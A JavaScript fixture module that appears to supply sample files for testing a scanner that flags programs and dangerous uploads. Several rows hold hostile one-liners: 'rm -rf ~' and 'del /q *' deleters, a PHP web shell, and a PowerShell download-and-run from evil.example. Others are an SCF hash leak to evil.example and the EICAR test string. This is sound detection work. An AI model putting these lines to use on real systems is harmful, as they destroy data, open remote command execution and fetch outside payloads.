// Programs, and files that start one.
import { hex, join, u16le, u32le, utf16be } from './bytes.mjs';
import { zip } from './containers.mjs';
import { row } from './row.mjs';

const text = (name, filename, bytes, why) => row(name, 'text', bytes, why, { filename });

const elf = join(hex('7f454c46020101000000000000000000'), u16le(2), u16le(62), u32le(1), Buffer.alloc(40));
const exe = join('MZ', Buffer.alloc(58), u32le(64), 'PE\0\0', u16le(0x8664), Buffer.alloc(18));
const machO = join(hex('cffaedfe07000001030000000200000000000000000000008500200000000000'));
const fat = hex('cafebabe000000010100000700000003000010000000400000000c');
const javaClass = hex('cafebabe0000003400100a0003000d07000e07000f01');
const shortcut = join(hex('4c0000000114020000000000c000000000000046'), Buffer.alloc(56));
const archive = join('!<arch>\n', 'debian-binary   1234567890  0     0     100644  4         `\n', '2.0\n');
// Scanners look for the whole of it, in this file too.
const scannersTest = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'];

const office = (name, filename, more) =>
    row(
        name,
        'zip',
        zip([
            { name: '[Content_Types].xml', data: '<Types/>' },
            { name: 'word/vbaProject.bin', data: hex('d0cf11e0a1b11ae1') },
            ...more,
        ]),
        'runs macros when it is opened',
        { filename, claimed: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' },
    );

export default [
    row('an ELF program', 'elf', elf, 'a program for Linux', { filename: 'x.png', claimed: 'image/png' }),
    row('a Windows program', 'exe', exe, 'a program for Windows', { filename: 'invoice.pdf.exe' }),
    row('a Mach-O program', 'macho', machO, 'a program for macOS'),
    row('a fat Mach-O program', 'macho', fat, 'programs for macOS, with the first bytes of a class'),
    row('a Java class', 'class', javaClass, 'a program for Java', { filename: 'X.class' }),
    row('a Debian package', 'deb', archive, 'installs programs', { filename: 'x.deb' }),
    row('a shortcut of Windows', 'lnk', shortcut, 'starts what it names', { filename: 'x.lnk' }),
    row('a jar', 'zip', zip([{ name: 'META-INF/MANIFEST.MF', data: 'Main-Class: X\n' }]), 'a program for Java', { filename: 'x.jar' }),
    row('an Android app', 'zip', zip([{ name: 'AndroidManifest.xml' }, { name: 'classes.dex', data: 'dex\n035\0' }]), 'installs a program', { filename: 'x.apk' }),
    office('a document with macros', 'x.docm', []),
    office('a document with a template elsewhere', 'x.docx', [{ name: 'word/_rels/settings.xml.rels', data: '<Relationship TargetMode="External" Target="http://evil.example"/>' }]),
    text('a shell script', 'x.sh', '#!/bin/sh\nrm -rf ~\n', 'a program for whoever starts it'),
    text('a Python script', 'x.py', '#!/usr/bin/env python3\nimport os\n', 'a program for whoever starts it'),
    text('a Perl script', 'x.pl', '#!/usr/bin/perl\nunlink;\n', 'a program for whoever starts it'),
    text('a PHP script', 'x.php', "<?php system($_GET['c']);", 'runs where files are served by PHP'),
    text('a JSP page', 'x.jsp', '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec("x"); %>', 'runs where files are served by Java'),
    text('an ASP page', 'x.asp', '<% CreateObject("WScript.Shell").Run "x" %>', 'runs where files are served by IIS'),
    text('settings of Apache', '.htaccess', 'AddType text/html .png\nphp_value auto_prepend_file x\n', 'changes how its folder is served'),
    text('settings of IIS', 'web.config', '<configuration><system.webServer/></configuration>', 'changes how its folder is served'),
    text('a link of Windows', 'x.url', '[InternetShortcut]\r\nURL=file://evil.example/x.exe\r\n', 'fetches and starts what it names'),
    text('a starter of Linux', 'x.desktop', '[Desktop Entry]\nType=Application\nExec=sh -c x\n', 'starts what it names'),
    text('a batch file', 'x.bat', '@echo off\r\ndel /q *\r\n', 'a program for Windows'),
    text('a PowerShell script', 'x.ps1', 'Invoke-Expression (New-Object Net.WebClient).DownloadString("http://evil.example")\n', 'a program for Windows'),
    text('a Visual Basic script', 'x.vbs', 'CreateObject("WScript.Shell").Run "calc"\r\n', 'a program for Windows'),
    text('a script host file', 'x.wsf', '<job><script language="JScript">WScript.Echo(1)</script></job>', 'a program for Windows'),
    text('a folder command', 'x.scf', '[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.example\\x\r\n', 'sends a password hash by being shown'),
    text('an autorun file', 'autorun.inf', '[autorun]\r\nopen=x.exe\r\n', 'starts what it names'),
    row('settings of the registry', 'utf16', join(hex('feff'), utf16be('Windows Registry Editor Version 5.00\r\n')), 'changes Windows when it is opened', { filename: 'x.reg' }),
    text('a Java starter', 'x.jnlp', '<?xml version="1.0"?><jnlp codebase="http://evil.example"/>', 'fetches and starts a program'),
    text('what scanners are tested with', 'eicar.com', scannersTest.join(''), 'every scanner has to know it'),
];
